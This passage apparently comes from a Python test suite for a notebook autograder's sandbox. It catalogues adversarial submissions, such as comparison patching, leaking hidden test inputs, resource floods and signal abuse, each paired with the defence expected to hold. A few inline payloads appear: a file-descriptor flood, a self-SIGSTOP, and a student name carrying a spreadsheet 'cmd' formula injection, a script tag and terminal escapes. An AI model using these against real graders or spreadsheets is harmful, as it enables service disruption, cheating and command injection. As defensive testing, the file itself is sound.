        "bounded; the host's disk is not touched, and other tasks count",
        cells={"task1_7": _DISK},
    ),
    Attack(
        "shadow-files",
        "leaves sitecustomize.py, numpy.py, otter.py and startup files, then ends the kernel",
        "the next kernel starts clean, and other tasks count",
        cells={"task1_7": _SHADOWS},
    ),
    Attack(
        "outlives",
        "threads and detached processes that go on after the cell, and after grading",
        "no process is left; other tasks count",
        cells={"task1_7": _LASTING},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "breaks-the-line",
        "deletes, replaces and floods the sockets and the connection file",
        "at most tasks from there on are lost, and nothing outside is written",
        cells={"task1_7": _LINE},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "searches-memory",
        "reads all of its own memory, which was once the warm process's, for tests and secrets",
        "they never were in it",
        cells={"task1_7": _SEARCH_MEMORY},
        may_lose=frozenset({"1.8"}),  # large outputs may still be on their way
    ),
    Attack(
        "patches-the-worker",
        "replaces what packs, keeps and looks up values in the kernel's process",
        "answers become worthless from there on, never right",
        cells={"task1_7": _PATCH_WORKER},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "patches-comparisons",
        "makes numpy's, math's and Python's comparisons say yes",
        "comparisons are made in the judge",
        cells={"task1_7": _PATCH_NUMBERS},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "near-numbers",
        "answers with texts, decimals, complex, infinite and missing numbers, dates and truths",
        "none of them is taken for the number",
        module=_NEAR_NUMBERS,
        fast=True,
        listed=r"odd answer: task1_7: no usable answer",
    ),
    Attack(
        "odd-arrays",
        "answers with arrays at address 8, masked, structured, nested and subclassed ones",
        "they stay behind, or cross as the plain numbers they hold",
        module=_ODD_ARRAYS,
    ),
    Attack(
        "replayed-replies",
        "answers with earlier answers, and each question several times",
        "an answer counts for its own question only",
        cells={"task1_7": _REPLAY},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "late-replies",
        "answers when the time for an answer is over",
        "too late is no answer, and no later question gets it",
        cells={"task1_7": _LATE},
        may_lose=frozenset({"1.8"}),
        listed=r"after this no value could be fetched",
    ),
    Attack(
        "broken-frames",
        "sends frames that are no messages, and one of 40 MB, to where the judge listens",
        "at most tasks from there on are lost",
        cells={"task1_7": _BROKEN_FRAMES},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "descriptor-flood",
        "opens files until there are no descriptors, in a cell and while it answers",
        "bounded; only its own task is lost",
        module="_held = []\ndef lrt_psi(ll0, ll1):\n    while True: _held.append(open('/dev/null'))\n",
        cells={"task1_7": _FD_FLOOD},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "thread-flood",
        "starts threads until there are none",
        "bounded before 5,000",
        cells={"task1_7": _THREADS},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "signals-everything",
        "sends four signals to every process number, every group and the first process",
        "only its own processes exist for it",
        cells={"task1_1": _SIGNALS},
    ),
    Attack(
        "stops-itself",
        "stops its own process, which then can neither answer nor be interrupted",
        "the kernel is replaced",
        cells={"task1_7": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"},
        listed=r"cell .*: it could not be interrupted",
    ),
    Attack(
        "alarms",
        "ignores every signal and raises an error a hundred times a second",
        "the kernel is replaced where it does not answer",
        cells={"task1_7": _TIMERS},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "every-socket",
        "opens a socket of every family and calls every address and every path it finds",
        "the host's listeners hear nothing",
        cells={"task1_7": _SOCKETS},
    ),
    Attack(
        "system-calls",
        "makes the dangerous calls by number, and enters the namespaces of others",
        "each is refused: the cell's own assertion holds",
        cells={"task1_1": _CALLS},
    ),
    Attack(
        "poisons-the-warm-process",
        "writes to shared pages, libraries, the judge's files, switches of the kernel, descriptors",
        "nothing of it is shared with the warm process; its own tasks after it may suffer",
        cells={"task1_7": _POISON},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "markup-in-outputs",
        "shows scripts, links, frames and terminal escapes in every format",
        "no page holds them as markup",
        cells={"task1_7": _MARKUP},
    ),
    Attack(
        "markup-in-errors",
        "raises errors whose type and text are markup, and prints it while it answers",
        "they stand as text, cut short",
        module=_MARKUP_ERRORS,
        listed=r"printed: task1_7: printed while answering",
    ),
    Attack(
        "giant-error",
        "raises an error with a text of 10 MB",
        "results and page stay small",
        cells={"task1_7": _LONG},
        may_lose=frozenset({"1.8"}),
        listed=r"printed: cell .* printed more than",
    ),
    Attack(
        "giant-display",
        "displays 20,000 objects and a text of 50 MB",
        "results and page stay small",
        cells={"task1_7": _HUGE_RESULT},
        may_lose=frozenset({"1.8"}),
        listed=r"printed: cell .* printed more than",
    ),
    Attack(
        "hooks-imports",
        "replaces the student module, the import system and the search path in the kernel",
        "what it answers with is judged like any other answer",
        cells={"task1_7": _IMPORTS},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "answers-for-every-name",
        "puts a dictionary that has everything where the worker looks names up",
        "a number for every name earns nothing",
        cells={"task1_7": _QUINE},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "endless-handles",
        "answers with thousands of objects that answer with thousands of objects",
        "bounded, and none is taken for a number",
        module=_EXHAUST_HANDLES,
        may_lose=frozenset({"1.8", "1.9"}),
    ),
    Attack(
        "raises-its-limits",
        "writes to cgroups, raises limits, priority and its place when memory runs out",
        "each is refused",
        cells={"task1_1": _CGROUP},
    ),
    Attack(
        "tells-hidden-inputs",
        "puts inputs of hidden tests into type names, column names and errors of later public tests",
        "no message that a student sees holds them",
        module=_TELL_INPUTS,
        may_lose=frozenset({"1.5", "1.6"}),
        listed=r"odd answer|reaches out",
    ),
    Attack(
        "slow-answers",
        "answers each question just before its time is over",
        "the time of one check, and its own task",
        cells={"task1_7": _SLOW},
        listed="after this no value could be fetched",
    ),
    Attack(
        "endless-lists",
        "gives lists of 300,000 objects, each of which the judge would have to ask about",
        "the time of one check, and its own task",
        cells={"task1_7": _LISTS},
    ),
    Attack(
        "floods-the-line",
        "sends 600 MB of messages with each answer, which the judge does not read meanwhile",
        "the judge's memory stays small",
        cells={"task1_7": _FLOOD_LINE},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "odd-text",
        "text that is no Unicode, in outputs, errors, answers and its own source",
        "files and pages are written all the same",
        module=_ODD_TEXT_MODULE,
        cells={"task1_7": _ODD_TEXT, "task1_1": "'\ud800'"},
        may_lose=frozenset({"1.1"}),
    ),
    Attack(
        "forged-records",
        "answers with given records that hold what such a record cannot",
        "they are worth what is in them",
        cells={"task1_7": _FORGE_RECORDS},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "names-with-markup",
        "is handed in under a name with markup, a formula, escapes, right-to-left marks",
        "pages and tables show it as text",
        name_of_student="=cmd|'/c calc'!A1<script>hostileScript()</script>\x1b[2J\u202e"
        + "x" * 10_000,
        unseen="a name does nothing; that it is odd is seen wherever it stands",
    ),
)
